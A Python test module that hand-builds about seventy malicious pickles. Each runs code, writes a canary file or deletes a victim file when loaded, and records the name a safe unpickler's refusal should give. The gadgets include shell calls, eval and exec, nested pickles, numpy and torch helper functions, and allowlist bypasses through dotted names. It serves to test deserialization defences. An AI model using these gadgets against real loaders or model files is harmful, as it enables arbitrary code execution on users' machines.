"""Pickles that run code, each by another way: opcodes by hand, since Python itself would not write most of them.

Each makes a file named ``canary`` in the working directory, or deletes one named ``victim``, when a trusting unpickler reads it. Run as a program, this
module is that trusting unpickler: ``python pickle_bombs.py FOLDER`` reads them all and prints the names of those that did harm.
"""

from __future__ import annotations

import copyreg
import io
import json
import marshal
import os
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SHELL = "touch canary"
PYTHON = "open('canary', 'w').close()"
EXTENSION_CODE = 0xF1


@dataclass(frozen=True)
class Bomb:
    """A pickle, what the refusal must name, and whether it does harm by itself: a few would only prepare it."""

    name: str
    opcodes: bytes
    refused: str
    harms: bool = True


def g(module: str, name: str) -> bytes:
    """A global, by the opcode of protocol 0 to 3."""
    return f"c{module}\n{name}\n".encode()


def sg(module: str, name: str) -> bytes:
    """A global, by STACK_GLOBAL of protocol 4: the name may have dots."""
    return v(module) + v(name) + b"\x93"


def v(value: Any) -> bytes:
    """A plain value; bytes are opcodes already."""
    if isinstance(value, bytes):
        return value
    if value is None or isinstance(value, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, str):
        return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
    if isinstance(value, list):
        return b"](" + b"".join(map(v, value)) + b"e"
    if isinstance(value, tuple):
        return b"(" + b"".join(map(v, value)) + b"t"
    assert isinstance(value, dict)
    return b"}(" + b"".join(v(key) + v(entry) for key, entry in value.items()) + b"u"


def raw(data: bytes) -> bytes:
    """Opcodes for a bytes object."""
    return b"B" + struct.pack("<I", len(data)) + data


def call(function: bytes, *arguments: Any) -> bytes:
    return function + v(arguments) + b"R"


def build(target: bytes, state: Any) -> bytes:
    return target + v(state) + b"b"


def new(cls: bytes, *arguments: Any) -> bytes:
    return cls + v(arguments) + b"\x81"


def new_ex(cls: bytes, keywords: dict[str, Any], *arguments: Any) -> bytes:
    return cls + v(arguments) + v(keywords) + b"\x92"


def put(number: int) -> bytes:
    """Remember what is on top of the stack."""
    return b"q" + bytes([number])


def get(number: int) -> bytes:
    """What was remembered, again: the same object."""
    return b"h" + bytes([number])


IDENTITY = g("torch.nn.modules.linear", "Identity")
SEQUENTIAL = g("torch.nn.modules.container", "Sequential")
HOOKS = ("_forward_hooks", "_forward_pre_hooks", "_backward_hooks", "_backward_pre_hooks")


def ordered(*items: Any) -> bytes:
    return call(g("collections", "OrderedDict"), *items)


def module(cls: bytes = IDENTITY, **state: Any) -> bytes:
    """A module as torch saves it, with these attributes."""
    whole = {"training": True, "_parameters": {}, "_buffers": {}, "_modules": {}, **dict.fromkeys(HOOKS, b"}"), **state}
    return build(new(cls), whole)


def tensor(count: int, size: tuple[int, ...], stride: tuple[int, ...], kind: str = "Float", offset: int = 0) -> bytes:
    """A tensor over storage 0, which is said to have ``count`` numbers."""
    storage = v(("storage", g("torch", f"{kind}Storage"), "0", "cpu", count)) + b"Q"
    hooks = call(g("collections", "OrderedDict"))
    return call(g("torch._utils", "_rebuild_tensor_v2"), storage, offset, size, stride, False, hooks)


_INNER = b"\x80\x04" + call(g("os", "system"), SHELL) + b"."
_CODE = marshal.dumps(compile(PYTHON, "<bomb>", "exec"))
_OS = call(g("importlib", "import_module"), "os")
_IDENTITY = g("torch.nn.modules.linear", "Identity") + b")\x81"


def nested_file() -> bytes:
    """A file of ``torch.save`` whose pickle does harm."""
    return torch_file(_INNER)


def torch_file(opcodes: bytes, storages: tuple[bytes, ...] = (), *, packed: bool = False) -> bytes:
    """The zip of ``torch.save`` around a pickle and the storages 0, 1, ...; ``packed`` compresses it, which torch never does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, data in (("data.pkl", opcodes), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"archive/{name}", data)
        for number, numbers in enumerate(storages):
            archive.writestr(f"archive/data/{number}", numbers)
    return buffer.getvalue()


def bombs() -> list[Bomb]:
    """All of them, names unique."""
    path = call(g("pathlib", "Path"), "canary")
    partial_load = build(
        call(g("functools", "partial"), g("torch", "load")), (g("torch", "load"), (), {"weights_only": False}, {})
    )
    made: list[tuple[str, bytes, str]] = [
        # --- the shell and other programs
        ("os.system", call(g("os", "system"), SHELL), "os.system"),
        ("posix.system", call(g("posix", "system"), SHELL), "posix.system"),
        ("os.popen", call(call(g("builtins", "getattr"), call(g("os", "popen"), SHELL), "close")), "os.popen"),
        ("os.spawnlp", call(g("os", "spawnlp"), 0, "touch", "touch", "canary"), "os.spawnlp"),
        ("subprocess.check_call", call(g("subprocess", "check_call"), ["touch", "canary"]), "subprocess.check_call"),
        ("subprocess.getoutput", call(g("subprocess", "getoutput"), SHELL), "subprocess.getoutput"),
        ("pty.spawn", call(g("pty", "spawn"), ["touch", "canary"]), "pty.spawn"),
        ("pydoc.pipepager", call(g("pydoc", "pipepager"), "", SHELL), "pydoc.pipepager"),
        (
            "ctypes",
            call(call(g("builtins", "getattr"), call(g("ctypes", "CDLL"), None), "system"), raw(SHELL.encode())),
            "ctypes.CDLL",
        ),
        # --- Python code
        ("builtins.eval", call(g("builtins", "eval"), PYTHON), "builtins.eval"),
        ("builtins.exec", call(g("builtins", "exec"), PYTHON), "builtins.exec"),
        ("__builtin__.eval by INST", b"(" + v(PYTHON) + b"i__builtin__\neval\n", "an opcode that no genuine file uses"),
        ("posix.system by OBJ", b"(" + g("posix", "system") + v(SHELL) + b"o", "posix.system"),
        (
            "code.InteractiveInterpreter",
            call(call(g("builtins", "getattr"), call(g("code", "InteractiveInterpreter")), "runsource"), PYTHON),
            "code.InteractiveInterpreter",
        ),
        ("timeit.timeit", call(g("timeit", "timeit"), PYTHON, "pass", g("time", "perf_counter"), 1), "timeit.timeit"),
        ("bdb.Bdb", call(call(g("builtins", "getattr"), call(g("bdb", "Bdb")), "run"), PYTHON), "bdb.Bdb"),
        ("runpy.run_path", call(g("runpy", "run_path"), "harm.py"), "runpy.run_path"),
        ("importlib.import_module", call(g("importlib", "import_module"), "harm"), "importlib.import_module"),
        ("builtins.__import__", call(g("builtins", "__import__"), "harm"), "builtins.__import__"),
        ("a name in a module beside", g("harm", "anything"), "harm.anything"),
        (
            "types.FunctionType",
            call(
                call(
                    g("types", "FunctionType"),
                    call(g("marshal", "loads"), raw(_CODE)),
                    v({"__builtins__": g("builtins", "__dict__")}),
                )
            ),
            "types.FunctionType",
        ),
        (
            "builtins.compile",
            call(g("builtins", "exec"), call(g("builtins", "compile"), PYTHON, "x", "exec")),
            "builtins.exec",
        ),
        (
            "numpy runstring",
            call(g("numpy.testing._private.utils", "runstring"), PYTHON, {}),
            "numpy.testing._private.utils.runstring",
        ),
        (
            "numpy.f2py getlincoef",
            call(g("numpy.f2py.crackfortran", "getlincoef"), PYTHON, {}),
            "numpy.f2py.crackfortran.getlincoef",
        ),
        (
            "torch execWrapper",
            call(g("torch.jit.unsupported_tensor_ops", "execWrapper"), PYTHON, {}, {}),
            "torch.jit.unsupported_tensor_ops.execWrapper",
        ),
        ("torch collect_env", call(g("torch.utils.collect_env", "run"), SHELL), "torch.utils.collect_env.run"),
        # --- calls put together out of harmless parts
        ("getattr on a module", call(call(g("builtins", "getattr"), _OS, "system"), SHELL), "importlib.import_module"),
        (
            "getattr by protocol 0",
            call(call(g("__builtin__", "getattr"), _OS, "system"), SHELL),
            "importlib.import_module",
        ),
        ("functools.partial", call(call(g("functools", "partial"), g("os", "system"), SHELL)), "functools.partial"),
        ("functools.partial by BUILD", call(partial_load, "nested.pt"), "functools.partial"),
        (
            "functools.reduce",
            call(call(g("functools", "reduce"), g("builtins", "getattr"), [_OS, "system"]), SHELL),
            "functools.reduce",
        ),
        (
            "map and list",
            call(g("builtins", "list"), call(g("builtins", "map"), g("os", "system"), [SHELL])),
            "builtins.list",
        ),
        (
            "operator.attrgetter",
            call(call(call(g("operator", "attrgetter"), "system"), _OS), SHELL),
            "operator.attrgetter",
        ),
        (
            "operator.methodcaller",
            call(call(g("operator", "methodcaller"), "write_text", "x"), path),
            "operator.methodcaller",
        ),
        (
            "operator.itemgetter",
            call(call(call(g("operator", "itemgetter"), "eval"), g("builtins", "__dict__")), PYTHON),
            "operator.itemgetter",
        ),
        (
            "copyreg._reconstructor",
            call(g("copyreg", "__newobj__"), g("numpy", "memmap"), "canary", g("numpy", "uint8"), "w+", 0, (4,)),
            "copyreg.__newobj__",
        ),
        (
            "a __setstate__ set by BUILD",
            build(build(_IDENTITY, {"__setstate__": g("os", "system")}), SHELL),
            "os.system",
        ),
        (
            "a class changed by BUILD",
            build(g("torch.nn.modules.linear", "Identity"), (None, {"forward": 1})),
            "setting attributes of torch.nn.modules.linear.Identity",
        ),
        # --- names with dots, which lead from an allowed module to what it has imported
        (
            "os through torch.nn.modules",
            call(sg("torch.nn.modules.linear", "F.torch.os.system"), SHELL),
            "torch.nn.modules.linear.F.torch.os.system",
        ),
        ("os by dots", call(sg("shutil", "os.system"), SHELL), "shutil.os.system"),
        (
            "globals of a method",
            call(call(sg("torch.nn.modules.linear", "Linear.forward.__builtins__.get"), "eval"), PYTHON),
            "torch.nn.modules.linear.Linear.forward",
        ),
        (
            "a method of an allowed class",
            call(sg("torch.nn.modules.module", "Module.register_forward_hook"), _IDENTITY, g("os", "system")),
            "torch.nn.modules.module.Module.register_forward_hook",
        ),
        (
            "a table of hooks in an allowed module",
            g("torch.nn.modules.module", "_global_forward_hooks") + v(9) + g("os", "system") + b"s",
            "torch.nn.modules.module._global_forward_hooks",
        ),
        # --- pickles in pickles
        ("pickle.loads", call(g("pickle", "loads"), raw(_INNER)), "pickle.loads"),
        ("_pickle.loads", call(g("_pickle", "loads"), raw(_INNER)), "_pickle.loads"),
        (
            "torch.storage._load_from_bytes",
            call(g("torch.storage", "_load_from_bytes"), raw(nested_file())),
            "torch.storage._load_from_bytes",
        ),
        (
            "torch basichandlers",
            call(g("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", raw(_INNER)),
            "basichandlers",
        ),
        ("numpy.load", call(g("numpy", "load"), "object.npy", None, True), "numpy.load"),
        ("cloudpickle.loads", call(g("cloudpickle", "loads"), raw(_INNER)), "cloudpickle.loads"),
        ("joblib.load", call(g("joblib", "load"), "inner.pkl"), "joblib.load"),
        ("torch.hub from a folder", call(g("torch.hub", "_load_local"), ".", "entry"), "torch.hub._load_local"),
        (
            "an extension of copyreg",
            b"\x82" + bytes([EXTENSION_CODE]) + v((SHELL,)) + b"R",
            "an opcode that no genuine file uses",
        ),
        ("a persistent id that is a call", call(g("os", "system"), SHELL) + b"Q", "os.system"),
        # --- files
        ("builtins.open", call(g("builtins", "open"), "canary", "w"), "builtins.open"),
        ("io.FileIO", call(g("_io", "FileIO"), "canary", "w"), "_io.FileIO"),
        ("codecs.open", call(g("codecs", "open"), "canary", "w"), "codecs.open"),
        ("pathlib unlink", call(sg("pathlib", "Path.unlink"), call(g("pathlib", "Path"), "victim")), "pathlib.Path"),
        ("os.remove", call(g("os", "remove"), "victim"), "os.remove"),
        ("shutil.copy", call(g("shutil", "copy"), "victim", "canary"), "shutil.copy"),
        ("zipfile.ZipFile", call(g("zipfile", "ZipFile"), "canary", "w"), "zipfile.ZipFile"),
        ("logging.FileHandler", call(g("logging", "FileHandler"), "canary"), "logging.FileHandler"),
        ("numpy.memmap", call(g("numpy", "memmap"), "canary", g("numpy", "uint8"), "w+", 0, (4,)), "numpy.memmap"),
        (
            "numpy.memmap by NEWOBJ",
            new(g("numpy", "memmap"), "canary", g("numpy", "uint8"), "w+", 0, (4,)),
            "numpy.memmap",
        ),
        (
            "numpy.memmap by NEWOBJ_EX",
            new_ex(g("numpy", "memmap"), {"shape": (4,), "mode": "w+"}, "canary"),
            "numpy.memmap",
        ),
        ("numpy.savetxt", call(g("numpy", "savetxt"), "canary", [1]), "numpy.savetxt"),
        ("torch.save", call(g("torch", "save"), 1, "canary"), "torch.serialization.save|torch.save"),
        (
            "torch.UntypedStorage.from_file",
            call(sg("torch", "UntypedStorage.from_file"), "canary", True, 4),
            "torch.UntypedStorage",
        ),
        (
            "a file through a module of mmm",
            call(sg("mmm.logging.ZipLog", "Path.touch"), call(g("mmm.logging.ZipLog", "Path"), "canary")),
            "mmm.logging.ZipLog",
        ),
    ]
    idle = {"a class changed by BUILD", "a method of an allowed class", "a table of hooks in an allowed module"}
    # Up to protocol 2 the modules have the names of Python 2; dots in a name need protocol 4.
    return [
        Bomb(
            name,
            (b"\x80\x02" if b"__builtin__" in opcodes else b"\x80\x04") + opcodes + b".",
            refused,
            name not in idle,
        )
        for name, opcodes, refused in made
    ]


def prepare(folder: Path) -> None:
    """What the bombs find beside them."""
    import numpy as np

    (folder / "victim").write_text("still here")
    (folder / "harm.py").write_text(PYTHON)
    (folder / "hubconf.py").write_text(f"def entry():\n    {PYTHON}\n")
    (folder / "nested.pt").write_bytes(nested_file())
    (folder / "inner.pkl").write_bytes(_INNER)

    class Inner:
        def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
            return os.system, (SHELL,)

    np.save(folder / "object.npy", np.array([Inner()], dtype=object), allow_pickle=True)


def harmed(folder: Path) -> bool:
    return (folder / "canary").exists() or not (folder / "victim").exists()


class _Trusting(pickle.Unpickler):
    def persistent_load(self, pid: Any) -> Any:
        return pid


def main() -> None:
    """Read every bomb as a trusting program would; print which did harm."""
    top = Path(sys.argv[1])
    sys.path.insert(0, "")
    copyreg.add_extension("posix", "system", EXTENSION_CODE)
    done = []
    for number, bomb in enumerate(bombs()):
        folder = top / str(number)
        folder.mkdir()
        prepare(folder)
        os.chdir(folder)
        sys.modules.pop("harm", None)
        with suppress(Exception):
            _Trusting(io.BytesIO(bomb.opcodes)).load()
        if harmed(folder):
            done.append(bomb.name)
    print(json.dumps(done))


if __name__ == "__main__":
    main()
